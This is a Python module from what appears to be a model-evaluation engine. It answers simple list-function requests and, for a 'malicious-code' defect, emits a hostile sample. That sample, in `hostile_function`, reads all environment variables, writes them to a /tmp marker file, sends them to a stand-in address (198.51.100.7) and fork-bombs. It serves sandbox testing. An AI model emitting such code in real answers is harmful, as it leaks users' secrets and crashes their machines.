"""The reference model's code-writing rule, and the hostile code the `malicious-code` defect writes.

The rule reads a request like 编写Python函数unique_sorted(values)，输入整数列表，返回
升序去重后的新列表，不修改原列表 as a specification: the function's name and
parameter from the signature, "去重/unique" for a set, "升序/ascending" or
"降序/descending" for the order. It answers only what it understood, with a fresh
list built from the input (never a mutation of it), in a fenced block as models do.
"""

from __future__ import annotations

import re

from .conversation import Conversation

__all__ = ["HOSTILE_MARKER_PATH", "code_rule", "hostile_function", "requested_function"]

_SIGNATURE = re.compile(r"(?:函数|function)\s*`?([A-Za-z_]\w*)\s*\(\s*([A-Za-z_]\w*)\s*\)", re.IGNORECASE)
_PYTHON = re.compile(r"python", re.IGNORECASE)
_UNIQUE = re.compile(r"去重|唯一|unique|dedup|distinct", re.IGNORECASE)
_ASCENDING = re.compile(r"升序|从小到大|ascending|increasing|sorted", re.IGNORECASE)
_DESCENDING = re.compile(r"降序|从大到小|descending|decreasing", re.IGNORECASE)

# Where the hostile code tries to write; the e2e self-test checks it never appears.
HOSTILE_MARKER_PATH = "/tmp/engine-acceptance-malicious-code-ran"


def requested_function(question: str) -> tuple[str, str] | None:
    """(name, parameter) of the Python function the question asks for, if it asks for one."""
    if not _PYTHON.search(question):
        return None
    match = _SIGNATURE.search(question)
    return (match.group(1), match.group(2)) if match else None


def _body(question: str, param: str) -> tuple[str, str] | None:
    unique = bool(_UNIQUE.search(question))
    descending = bool(_DESCENDING.search(question))
    ascending = bool(_ASCENDING.search(question)) and not descending
    if not (unique or ascending or descending):
        return None
    source = f"set({param})" if unique else param
    if ascending or descending:
        # sorted() builds a new list: the input is never modified.
        return f"sorted({source}{', reverse=True' if descending else ''})", "sorted"
    return f"list(dict.fromkeys({param}))", "unique"


def code_rule(conv: Conversation, zh: bool) -> tuple[str, str] | None:
    question = conv.question
    wanted = requested_function(question)
    if wanted is None:
        return None
    name, param = wanted
    body = _body(question, param)
    if body is None:
        return None
    expression, _ = body
    code = f"```python\ndef {name}({param}):\n    return {expression}\n```"
    if zh:
        reasoning = (f"用户要函数 {name}({param})。去重用 set，排序用 sorted；sorted 返回新列表，"
                     f"不会修改原列表。不需要导入模块。")
    else:
        reasoning = (f"The user wants {name}({param}). A set removes duplicates and sorted() returns a new "
                     f"list, so the input is left alone. No imports are needed.")
    return reasoning, code


def hostile_function(name: str, param: str) -> str:
    """One body that tries everything a sandbox must stop: read the environment, write
    outside its directory, open a socket, fork without end, and loop forever."""
    return (
        "```python\n"
        f"def {name}({param}):\n"
        "    import os, socket\n"
        "    stolen = dict(os.environ)\n"
        f"    with open({HOSTILE_MARKER_PATH!r}, 'w') as handle:\n"
        "        handle.write(repr(stolen))\n"
        "    socket.create_connection(('198.51.100.7', 443), timeout=2).sendall(repr(stolen).encode())\n"
        "    while True:\n"
        "        os.fork()\n"
        "```"
    )
